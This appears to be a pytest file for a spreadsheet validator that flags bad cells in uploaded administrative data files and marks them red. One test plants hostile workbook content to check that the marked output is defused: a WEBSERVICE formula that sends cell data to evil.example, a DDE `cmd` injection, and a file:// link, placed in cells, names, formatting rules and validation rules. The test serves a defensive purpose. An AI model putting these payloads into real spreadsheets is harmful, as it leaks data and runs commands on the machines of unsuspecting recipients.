"""The marked workbook: exactly the bad cells are red, for every kind of file."""

import io
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from sheets.annotate import annotate
from sheets.marking import AMBER, RED
from sheets.read import Sheet
from sheets.tests.support import EFERFAR, HEAD, LOOKUPS, TODAY, csv_text, issue_codes, read_bytes, xlsx_bytes
from sheets.tests.xls import xls_bytes
from sheets.validate import Options, Validated, validate

# Forty ways to spoil a cell: field → wrong value.
BAD_CELLS: list[tuple[str, str]] = [
    *[("division", text) for text in ("Nowhere", "Kongan", "Atlantis", "#REF!")],
    *[("district", text) for text in ("Elsewhere", "Mumbai Suburbn", "Pune", "Nowhere")],
    *[("taluka", text) for text in ("", "Andehri", "Thane", "Timbuktu", "#N/A", "अंधरी")],
    *[("status", text) for text in ("", "pending", "disputable", "विवाद")],
    *[
        ("date", text)
        for text in ("", "31/11/2026", "19/13/2026", "29/02/2025", "soon", "00/01/2026", "1/1/1066")
    ],
    *[("total_pending", text) for text in ("a lot", "-18", "1.5", "1O4", "9999999999")],
    *[("total_issued", text) for text in ("many", "1,2", "(5)", "12x")],
    *[("stay_orders", text) for text in ("some", "few", "1e5")],
    *[("avg_processing_days", text) for text in ("36501", "24 km", "#DIV/0!")],
]
TALUKAS = ("Andheri", "Borivali", "Kurla")


def sheet_with_errors() -> tuple[list[list[str]], set[str]]:
    """Return a sheet of 120 rows with an error in every third row, and the cells with the errors."""
    rows, cells = [], set()
    for index in range(120):
        values = ["Konkan", "Mumbai Suburban", TALUKAS[index % 3], "disputed"]
        values += [date(2026, 1 + index // 28, 1 + index % 28).isoformat(), str(index), "412", "3", "24"]
        if index % 3 == 0:
            name, text = BAD_CELLS[index // 3]
            values[HEAD.index(name)] = text
            cells.add(f"{'ABCDEFGHI'[HEAD.index(name)]}{index + 2}")
        rows.append(values)
    return rows, cells


def as_file(kind: str, rows: list[list[str]]) -> bytes:
    if kind == "csv":
        return csv_text(rows, separator=";").encode()
    if kind == "xls":
        return xls_bytes([HEAD, *(list(cells) for cells in rows)])
    return xlsx_bytes([HEAD, *([int(t) if t.isdigit() else t or None for t in cells] for cells in rows)])


def coloured(workbook: bytes, colour: str) -> set[str]:
    sheet = load_workbook(io.BytesIO(workbook)).worksheets[0]
    return {
        cell.coordinate for cells in sheet.iter_rows() for cell in cells if cell.fill.fgColor.rgb == colour
    }


def check(sheet: Sheet) -> Validated:
    return validate(sheet, EFERFAR, LOOKUPS, Options(today=TODAY))


@pytest.mark.parametrize("kind", ["csv", "xlsx", "xls"])
def test_marks_exactly_the_planted_errors(tmp_path: Path, kind: str) -> None:
    rows, cells = sheet_with_errors()
    assert len(BAD_CELLS) == len(cells) == 40
    sheet = read_bytes(tmp_path, as_file(kind, rows), f"november.{kind}")
    verdict = check(sheet)
    assert {cell for cell, _ in issue_codes(verdict.issues)} == cells and len(verdict.issues) == 40
    assert verdict.rows.height == 80
    marked = annotate(tmp_path / "original.bin", f"november.{kind}", verdict.issues, "mr")
    assert coloured(marked, RED) == cells and not coloured(marked, AMBER)
    book = load_workbook(io.BytesIO(marked))
    assert {c.coordinate for r in book.worksheets[0].iter_rows() for c in r if c.comment} == cells
    assert book.sheetnames[1] == "त्रुटी" and book.worksheets[1].max_row == 41


def test_corrected_marked_workbook_can_be_imported(tmp_path: Path) -> None:
    rows, _ = sheet_with_errors()
    verdict = check(read_bytes(tmp_path, as_file("csv", rows)))
    marked = load_workbook(io.BytesIO(annotate(tmp_path / "original.bin", "a.csv", verdict.issues, "en")))
    sheet = marked.worksheets[0]
    good: dict[str, Any] = dict(
        zip("ABCDEFGHI", ["Konkan", "Mumbai Suburban", None, "disputed", None, 1, 2, 3, 4], strict=True)
    )
    for issue in verdict.issues:
        assert issue.row is not None
        good |= {
            "C": TALUKAS[(issue.row - 2) % 3],
            "E": date(2026, 1 + (issue.row - 2) // 28, 1 + (issue.row - 2) % 28),
        }
        sheet[issue.cell] = good[issue.cell[0]]
    marked.save(tmp_path / "mended.xlsx")
    again = check(read_bytes(tmp_path, (tmp_path / "mended.xlsx").read_bytes(), "mended.xlsx"))
    assert again.issues == [] and again.rows.height == 120


def test_marks_ranges_and_warnings(tmp_path: Path) -> None:
    good = ["Konkan", "Mumbai Suburban", "Andheri", "disputed", "2026-11-18", 1, 2, 3, 4]
    late = [*good[:4], "2027-01-01", *good[5:]]
    content = xlsx_bytes([[*HEAD, "remarks"], good, good, [*late, "=HYPERLINK(1)"]])
    verdict = check(read_bytes(tmp_path, content, "a.xlsx"))
    marked = annotate(tmp_path / "original.bin", "a.xlsx", verdict.issues, "en")
    assert coloured(marked, RED) == {"C3", "D3", "E3"}
    assert coloured(marked, AMBER) == {"J1", "E4"}
    assert load_workbook(io.BytesIO(marked)).worksheets[0]["J4"].value == "=HYPERLINK(1)"


def test_csv_formula_stays_text(tmp_path: Path) -> None:
    verdict = check(
        read_bytes(tmp_path, csv_text([["=1+1", "+2", "@x", "-y", "1/1/26", "1", "2", "3", "4"]]))
    )
    marked = load_workbook(io.BytesIO(annotate(tmp_path / "original.bin", "a.csv", verdict.issues, "en")))
    for sheet in marked.worksheets:
        assert all(cell.data_type != "f" for cells in sheet.iter_rows() for cell in cells)


def test_marked_workbook_has_no_active_content(tmp_path: Path) -> None:
    """The uploader's formulas, names, formats and links would run on the machine of the user who opens the file."""
    good = ["Konkan", "Mumbai Suburban", "Andheri", "disputed", "2026-11-18", 1, 2, 3, 4]
    book = load_workbook(
        io.BytesIO(xlsx_bytes([[*HEAD, "remarks"], good, [*good[:2], "Atlantis", *good[3:]]]))
    )
    sheet, other = book.worksheets[0], book.create_sheet("Notes")
    fetch = '=WEBSERVICE("https://evil.example/"&A2)'
    for cell in (sheet["J2"], sheet["J3"], sheet["L9"], other["B2"]):
        cell.value = fetch
    other["A1"] = "=cmd|'/c calc'!A0"
    other["A2"] = ArrayFormula("A2:A3", fetch)
    other["A4"].value, other["A4"].hyperlink = "open", "file://evil.example/share"
    book.defined_names["Fetched"] = DefinedName("Fetched", attr_text=fetch[1:])
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=[fetch[1:]]))
    sheet.add_data_validation(DataValidation("list", formula1=fetch, sqref="A2"))
    sheet.add_data_validation(DataValidation("list", formula1="Notes!$A$1:$A$9", sqref="B2"))
    out = io.BytesIO()
    book.save(out)

    verdict = check(read_bytes(tmp_path, out.getvalue(), "a.xlsx"))
    marked = annotate(tmp_path / "original.bin", "a.xlsx", verdict.issues, "en")
    with zipfile.ZipFile(io.BytesIO(marked)) as parts:
        for name in parts.namelist():
            content = parts.read(name)
            assert not re.search(
                rb'<(?:\w+:)?f[ >/]|<definedName |conditionalFormatting|Target="[^#"][^>]*TargetMode', content
            ), name
    given = load_workbook(io.BytesIO(marked))
    assert (given.worksheets[0]["J2"].value, given["Notes"]["B2"].value) == (fetch, fetch)
    assert given.worksheets[0]["J2"].data_type == "s"
    assert [rule.formula1 for rule in given.worksheets[0].data_validations.dataValidation] == [
        "Notes!$A$1:$A$9"
    ]


def test_formula_is_replaced_by_its_stored_value(tmp_path: Path) -> None:
    good = ["Konkan", "Mumbai Suburban", "Atlantis", "disputed", "2026-11-18", 1, 2, 3, 4]
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEAD, good]))) as parts:
        content = {name: parts.read(name) for name in parts.namelist()}
    page = "xl/worksheets/sheet1.xml"
    computed = re.sub(rb'(<c r="F2"[^>]*>)<v>1</v>', rb"\1<f>40+2</f><v>42</v>", content[page])
    assert computed != content[page]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as parts:
        for name, body in (content | {page: computed}).items():
            parts.writestr(name, body)
    verdict = check(read_bytes(tmp_path, out.getvalue(), "a.xlsx"))
    marked = annotate(tmp_path / "original.bin", "a.xlsx", verdict.issues, "en")
    assert load_workbook(io.BytesIO(marked)).worksheets[0]["F2"].value == 42
